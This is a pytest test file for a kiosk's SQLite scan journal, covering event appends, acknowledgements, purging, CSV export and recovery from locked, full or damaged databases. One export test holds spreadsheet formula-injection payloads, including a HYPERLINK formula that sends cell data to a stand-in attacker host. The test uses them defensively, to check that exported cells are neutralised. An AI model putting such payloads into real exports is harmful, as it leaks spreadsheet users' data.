"""The scan journal: append, report, acknowledge, isolate, purge (SQLite, WAL)."""

from __future__ import annotations

import io
import logging
import sqlite3
from datetime import timedelta

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kiosk.errors import JournalError
from kiosk.journal import Journal, acks_path, iso, write_csv


def add(journal: Journal, at, verdict="admit", raw="I-1001", **kw) -> str:
    return journal.append(at=at, gate="lounge-1", source="camera", raw=raw, credential=raw, verdict=verdict,
                          customer_id=kw.pop("customer_id", "I-1001"), groups=kw.pop("groups", ["Members"]),
                          cursor="c-1", **kw)


def test_append_is_committed_and_pending_as_a_protocol_event(journal, clock, tmp_path):
    event_id = add(journal, clock(), reason="Welcome")
    assert len(event_id) == 36
    other = sqlite3.connect(tmp_path / "journal.sqlite")  # another connection sees it: committed
    assert other.execute("SELECT verdict FROM events WHERE id = ?", (event_id,)).fetchone() == ("admit",)
    other.close()
    assert journal.pending() == [{
        "id": event_id, "at": "2026-11-22T10:00:00.000Z", "gate": "lounge-1", "source": "camera", "raw": "I-1001",
        "credential": "I-1001", "verdict": "admit", "customer_id": "I-1001", "groups": ["Members"], "cursor": "c-1",
        "passed": None}]
    assert journal.counts() == {"total": 1, "pending": 1, "sent": 0, "isolated": 0}
    assert journal.last_at() == "2026-11-22T10:00:00.000Z"


def test_raw_text_is_cut_and_control_characters_replaced(journal, clock):
    add(journal, clock(), verdict="not_recognised", raw="a\x00b\x1b\n" + "x" * 400, customer_id=None)
    raw = journal.pending()[0]["raw"]
    assert len(raw) == 256
    assert raw.startswith("a\ufffdb\ufffd\ufffd")


def test_a_given_event_id_is_kept_and_unique(journal, clock):
    add(journal, clock(), event_id="fixed-id")
    assert journal.pending()[0]["id"] == "fixed-id"
    with pytest.raises(JournalError):
        add(journal, clock(), event_id="fixed-id")


def test_pending_is_oldest_first_and_limited(journal, clock):
    ids = [add(journal, clock() + timedelta(seconds=i)) for i in range(7)]
    assert [e["id"] for e in journal.pending(limit=5)] == ids[:5]


def test_mark_sent_acknowledges_once(journal, clock):
    a, b, c = (add(journal, clock()) for _ in range(3))
    assert journal.mark_sent([a, c, "unknown"], clock()) == 2
    assert [e["id"] for e in journal.pending()] == [b]
    assert journal.mark_sent([a], clock()) == 0  # a resent acknowledgement is a no-op
    assert journal.counts() == {"total": 3, "pending": 1, "sent": 2, "isolated": 0}


def test_isolate_sets_a_bad_event_aside(journal, clock):
    a, b = add(journal, clock()), add(journal, clock())
    journal.isolate(a, "422: unknown gate")
    assert [e["id"] for e in journal.pending()] == [b]
    assert journal.isolated() == [{"id": a, "at": iso(clock()), "verdict": "admit", "note": "422: unknown gate"}]
    assert journal.counts()["isolated"] == 1


def test_set_passed_requeues_a_sent_event_but_not_an_isolated_one(journal, clock):
    a, b = add(journal, clock()), add(journal, clock())
    journal.mark_sent([a], clock())
    journal.isolate(b, "bad")
    journal.set_passed(a, True)
    journal.set_passed(b, False)
    pending = journal.pending()
    assert [(e["id"], e["passed"]) for e in pending] == [(a, True)]
    assert journal.isolated()[0]["id"] == b


def test_purge_drops_acknowledged_events_older_than_keep_days(tmp_path, clock):
    journal = Journal(tmp_path / "j.sqlite", keep_days=30)
    try:
        old = clock() - timedelta(days=31)
        old_sent = add(journal, old)
        old_pending = add(journal, old)
        old_isolated = add(journal, old)
        new_sent = add(journal, clock() - timedelta(days=29))
        journal.mark_sent([old_sent, new_sent], clock())
        journal.isolate(old_isolated, "bad")
        assert journal.purge(clock()) == 1
        left = {e["id"] for e in journal.events()}
        assert left == {old_pending, old_isolated, new_sent}
    finally:
        journal.close()


def test_purge_past_max_events_drops_the_oldest_acknowledged_first(tmp_path, clock, caplog):
    journal = Journal(tmp_path / "j.sqlite", max_events=5)
    try:
        ids = [add(journal, clock() + timedelta(seconds=i)) for i in range(8)]
        journal.mark_sent(ids[:4], clock())
        with caplog.at_level(logging.WARNING, logger="kiosk.journal"):
            assert journal.purge(clock()) == 3
        assert [e["id"] for e in journal.events()] == ids[3:]
        assert journal.counts()["pending"] == 4  # every unreported event kept
        assert not [r for r in caplog.records if r.levelno >= logging.WARNING]
    finally:
        journal.close()


def test_purge_drops_unreported_events_only_with_a_warning(tmp_path, clock, caplog):
    journal = Journal(tmp_path / "j.sqlite", max_events=5)
    try:
        ids = [add(journal, clock() + timedelta(seconds=i)) for i in range(8)]
        journal.mark_sent(ids[:1], clock())
        with caplog.at_level(logging.WARNING, logger="kiosk.journal"):
            assert journal.purge(clock()) == 3
        assert [e["id"] for e in journal.events()] == ids[3:]
        warnings = [r for r in caplog.records if r.levelno == logging.WARNING]
        assert len(warnings) == 1
        assert "UNREPORTED" in warnings[0].getMessage()
        assert "oldest 2 UNREPORTED" in warnings[0].getMessage()  # says how many unreported went
    finally:
        journal.close()


def test_purge_within_limits_drops_nothing(journal, clock, caplog):
    add(journal, clock() - timedelta(days=365))
    with caplog.at_level(logging.WARNING):
        assert journal.purge(clock()) == 0
    assert journal.counts()["total"] == 1
    assert not caplog.records


def test_wal_mode(journal, tmp_path):
    other = sqlite3.connect(tmp_path / "journal.sqlite")
    try:
        assert other.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    finally:
        other.close()


def test_reader_and_writer_at_once(journal, clock, tmp_path):
    add(journal, clock())
    reader = Journal(tmp_path / "journal.sqlite", readonly=True)
    try:
        add(journal, clock())
        assert reader.counts()["total"] == 2
        with pytest.raises(JournalError):
            add(reader, clock())
    finally:
        reader.close()


def test_events_since_and_csv_export(journal, clock):
    add(journal, clock() - timedelta(hours=2), raw="old")
    add(journal, clock(), verdict="not_in_group", raw='I-1003,"x"', customer_id="I-1003", groups=["A", "B"])
    recent = list(journal.events(since=clock() - timedelta(hours=1)))
    assert [e["raw"] for e in recent] == ['I-1003,"x"']
    assert recent[0]["groups"] == ["A", "B"]
    out = io.StringIO()
    assert write_csv(journal.events(), out) == 2
    import csv

    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["raw"] for r in rows] == ["old", 'I-1003,"x"']
    assert rows[1]["groups"] == "A;B"
    assert rows[1]["verdict"] == "not_in_group"
    assert rows[0]["passed"] == ""


def _spreadsheet_cells(line: str, separator: str) -> list[str]:
    """A CSV line as a spreadsheet splits it: at `separator` outside double quotes, quotes then removed."""
    cells, cell, quoted = [], "", False
    for c in line:
        if c == '"':
            quoted = not quoted
        elif c == separator and not quoted:
            cells.append(cell)
            cell = ""
        else:
            cell += c
    return [*cells, cell]


@pytest.mark.parametrize("separator", [",", ";"])
def test_no_exported_cell_starts_a_formula_whatever_the_spreadsheets_separator(journal, clock, separator):
    for raw in ('x;=HYPERLINK("http://evil.example/?"&A1)', "y,-2+3", "=1+1", "z;@SUM(1)", "plain"):
        add(journal, clock(), raw=raw)
    out = io.StringIO()
    write_csv(journal.events(), out)
    lines = out.getvalue().splitlines()
    cells = [cell for line in lines[1:] for cell in _spreadsheet_cells(line, separator)]
    assert cells and not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert lines[0].startswith("id,at,")  # the header as `kiosk replay` knows it


def test_unwritable_journal_is_a_journal_error(tmp_path):
    (tmp_path / "dir.sqlite").mkdir()
    with pytest.raises(JournalError):
        Journal(tmp_path / "dir.sqlite")


def test_passage_answer_landing_during_an_upload_is_reported_again(tmp_path):
    from datetime import datetime, timezone

    from kiosk.journal import Journal

    at = datetime(2026, 11, 22, 10, 0, tzinfo=timezone.utc)
    journal = Journal(tmp_path / "j.sqlite")
    reader = Journal(tmp_path / "j.sqlite")  # the uploader reads on its own connection
    event = journal.append(at=at, gate="g", source="camera", raw="I-1", credential="I-1", verdict="admit",
                           customer_id="I-1", groups=[], cursor="c")
    in_flight = reader.pending(500)
    assert in_flight[0]["passed"] is None
    journal.set_passed(event, True)  # the turnstile turned while the batch was on the wire
    assert reader.mark_sent(in_flight, at) == 0  # acknowledged as sent, without the sensor's answer
    again = reader.pending(500)
    assert [(e["id"], e["passed"]) for e in again] == [(event, True)]
    journal.mark_sent([event], at)
    assert reader.pending(500) == [] and journal.counts()["sent"] == 1


# -- a journal that cannot be written: locked, full, damaged --------------------------------

def lock_on(path):
    other = sqlite3.connect(path, isolation_level=None)

    class Lock:
        def take(self) -> None:
            other.execute("BEGIN IMMEDIATE")

        def release(self) -> None:
            other.execute("ROLLBACK")

    return Lock(), other


@pytest.fixture
def write_lock(tmp_path):
    """Another connection holding the journal's write lock (BEGIN IMMEDIATE) until released."""
    lock, other = lock_on(tmp_path / "journal.sqlite")
    yield lock
    other.close()


@pytest.fixture
def acks_lock(tmp_path, journal):
    """Another connection holding the acknowledgements file's write lock until released."""
    lock, other = lock_on(acks_path(journal.path))
    yield lock
    other.close()


def visible_ids(tmp_path) -> set[str]:
    """The ids another connection sees: only what was committed."""
    other = sqlite3.connect(tmp_path / "journal.sqlite")
    try:
        return {r[0] for r in other.execute("SELECT id FROM events")}
    finally:
        other.close()


@pytest.mark.parametrize("write, lock", [
    (lambda j, ids, at: j.mark_sent(ids, at), "acks_lock"),  # acknowledgements have a file of their own
    (lambda j, ids, at: j.isolate(ids[0], "bad"), "write_lock"),
    (lambda j, ids, at: j.purge(at), "write_lock"),
], ids=["mark_sent", "isolate", "purge"])
def test_a_failed_write_rolls_back_and_the_connection_stays_usable(journal, clock, tmp_path, write, lock, request):
    a, b = add(journal, clock()), add(journal, clock())
    lock = request.getfixturevalue(lock)
    lock.take()
    with pytest.raises(JournalError, match="database is locked"):
        write(journal, [a, b], clock())
    assert not journal.db.in_transaction  # the old code left it inside its BEGIN
    lock.release()
    c = add(journal, clock())
    assert visible_ids(tmp_path) == {a, b, c}  # not an id that only this connection sees
    assert journal.mark_sent([a, b, c], clock()) == 3  # and later writes work without a restart
    assert journal.counts()["sent"] == 3


def test_a_failed_mark_sent_is_not_reported_as_done(journal, clock, acks_lock):
    a = add(journal, clock())
    acks_lock.take()
    with pytest.raises(JournalError):
        journal.mark_sent([a], clock())
    acks_lock.release()
    assert [e["id"] for e in journal.pending()] == [a]  # still to be reported
    assert journal.counts()["pending"] == 1


def test_appends_while_locked_are_held_in_order_and_written_on_release(journal, clock, tmp_path, write_lock, caplog):
    first = add(journal, clock())
    write_lock.take()
    held = [add(journal, clock() + timedelta(seconds=i)) for i in range(1, 4)]
    assert journal.held == 3 and "locked" in journal.problem
    assert visible_ids(tmp_path) == {first}
    journal.set_passed(held[1], True)  # a passage for a held event travels with it
    write_lock.release()
    journal._retry_at = 0  # don't wait for the retry interval
    assert journal.flush()
    assert journal.held == 0 and journal.problem is None
    assert [e["id"] for e in journal.events()] == [first, *held]
    assert [e["passed"] for e in journal.events()] == [None, None, True, None]
    assert journal.counts() == {"total": 4, "pending": 4, "sent": 0, "isolated": 0}
    assert "wrote 3 held decisions" in caplog.text


def test_a_full_disk_holds_decisions_and_journalling_resumes_when_space_returns(journal, clock, tmp_path):
    # SQLITE_FULL for real: the file may not grow past the pages it has now.
    pages = journal.db.execute("PRAGMA page_count").fetchone()[0]
    journal.db.execute(f"PRAGMA max_page_count={pages}")
    ids = [add(journal, clock(), raw="x" * 200 + str(i)) for i in range(40)]
    assert journal.held > 0 and "full" in journal.problem
    written_while_full = visible_ids(tmp_path)
    assert written_while_full < set(ids)
    journal.flush()  # still full: nothing lost, still held
    assert journal.held == len(ids) - len(written_while_full)
    journal.db.execute("PRAGMA max_page_count=1073741823")  # space returns
    journal._retry_at = 0
    assert journal.flush()
    assert [e["id"] for e in journal.events()] == ids
    assert journal.lost == 0 and journal.problem is None


@pytest.fixture
def small_disk(tmp_path):
    """A real 512 KiB tmpfs: a full disk for real (root only)."""
    import os
    import subprocess

    disk = tmp_path / "disk"
    disk.mkdir()
    if os.geteuid() != 0 or subprocess.run(["mount", "-t", "tmpfs", "-o", "size=512k", "tmpfs", str(disk)],
                                           capture_output=True).returncode != 0:
        pytest.skip("mounting a small tmpfs needs root (a real full disk)")
    yield disk
    subprocess.run(["umount", "-l", str(disk)], check=False)


def fill(disk) -> None:
    import os

    fd = os.open(disk / "filler", os.O_WRONLY | os.O_CREAT)
    try:
        while True:
            os.write(fd, b"\0" * 4096)
    except OSError:
        pass
    finally:
        os.close(fd)


def test_a_kiosk_started_on_a_full_disk_holds_decisions_and_journals_them_when_space_returns(small_disk, clock):
    path = small_disk / "journal.sqlite"
    before = Journal(path)
    first = add(before, clock())
    before.close()  # a clean stop: no -wal or -shm left, so the next open must create them
    fill(small_disk)
    journal = Journal(path)  # used to raise "cannot open the journal (disk I/O error)": the kiosk did not start
    try:
        assert journal.problem and "cannot open the journal for writing" in journal.problem
        assert journal.counts()["total"] == 1  # what was journalled before is still readable
        held = [add(journal, clock(), raw=f"I-10{i}") for i in range(3)]
        assert journal.held == 3
        journal._retry_at = 0
        assert not journal.flush()  # still full: nothing lost, still held
        assert journal.held == 3
        (small_disk / "filler").unlink()  # space returns
        journal._retry_at = 0
        assert journal.flush()
        assert journal.held == 0 and journal.problem is None
    finally:
        journal.close()
    reader = Journal(path, readonly=True)
    try:
        assert [e["id"] for e in reader.events()] == [first, *held]
    finally:
        reader.close()


def test_held_decisions_are_bounded_and_the_overflow_is_counted_lost(tmp_path, clock, write_lock, caplog):
    journal = Journal(tmp_path / "journal.sqlite", hold_max=5)
    try:
        write_lock.take()
        ids = [add(journal, clock()) for _ in range(8)]
        assert journal.held == 5 and journal.lost == 3
        assert "decisions LOST" in caplog.text
        write_lock.release()
        journal._retry_at = 0
        journal.flush()
        assert [e["id"] for e in journal.events()] == ids[3:]  # the newest kept, the oldest counted
    finally:
        journal.close()


def test_close_writes_what_is_held(tmp_path, clock, write_lock):
    journal = Journal(tmp_path / "journal.sqlite")
    write_lock.take()
    event = add(journal, clock())
    write_lock.release()
    journal.close()
    assert visible_ids(tmp_path) == {event}


def test_a_damaged_journal_is_moved_aside_whole_and_a_new_one_started(tmp_path, clock, caplog):
    path = tmp_path / "journal.sqlite"
    path.write_bytes(b"not a database, a bad SD card" * 200)
    damaged = path.read_bytes()
    journal = Journal(path)
    try:
        aside = journal.moved_aside
        assert aside is not None and aside.name.startswith("journal.sqlite.corrupt-")
        assert aside.read_bytes() == damaged  # kept whole, never deleted
        assert str(path) in caplog.text and str(aside) in caplog.text  # the log line names both files
        event = add(journal, clock())
        assert visible_ids(tmp_path) == {event}
    finally:
        journal.close()


def test_a_journal_damaged_past_its_header_is_moved_aside_at_the_first_write_and_the_scan_kept(tmp_path, clock):
    path = tmp_path / "journal.sqlite"
    journal = Journal(path)
    for _ in range(30):
        add(journal, clock(), raw="y" * 200)
    journal.close()
    data = bytearray(path.read_bytes())
    data[1024:] = b"\xa5" * (len(data) - 1024)  # every page but the header: it opens, then fails to write
    path.write_bytes(bytes(data))
    journal = Journal(path)
    try:
        assert journal.moved_aside is None
        event = add(journal, clock())
        assert journal.moved_aside is not None and journal.moved_aside.read_bytes() == bytes(data)
        assert [e["id"] for e in journal.events()] == [event]
    finally:
        journal.close()


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(ops=st.lists(st.sampled_from(["append", "append", "append", "fill", "free", "flush", "pass"]), max_size=60))
def test_whatever_the_disk_does_every_decision_is_written_once_in_order(tmp_path_factory, clock, monkeypatch, ops):
    """Any sequence of appends, passage answers, a disk filling up and freeing, and retries: once there is
    space again, the journal holds every decision exactly once, in the order made, with its last answer."""
    import kiosk.journal as journal_module

    monkeypatch.setattr(journal_module, "RETRY_S", 0.0)  # retry at every call; the interval is not the point
    journal = Journal(tmp_path_factory.mktemp("j") / "journal.sqlite")
    try:
        made: list[str] = []
        passed: dict[str, bool] = {}
        for op in ops:
            if op == "append":
                made.append(add(journal, clock(), raw="z" * 300 + str(len(made))))
            elif op == "fill":
                pages = journal.db.execute("PRAGMA page_count").fetchone()[0]
                journal.db.execute(f"PRAGMA max_page_count={pages}")
            elif op == "free":
                journal.db.execute("PRAGMA max_page_count=1073741823")
            elif op == "flush":
                journal.flush()
            elif made:
                passed[made[-1]] = len(passed) % 2 == 0
                journal.set_passed(made[-1], passed[made[-1]])
        journal.db.execute("PRAGMA max_page_count=1073741823")
        assert journal.flush()
        events = list(journal.events())
        assert [e["id"] for e in events] == made
        assert {e["id"]: e["passed"] for e in events if e["passed"] is not None} == passed
        assert journal.lost == 0 and journal.problem is None and not journal.db.in_transaction
    finally:
        journal.close()
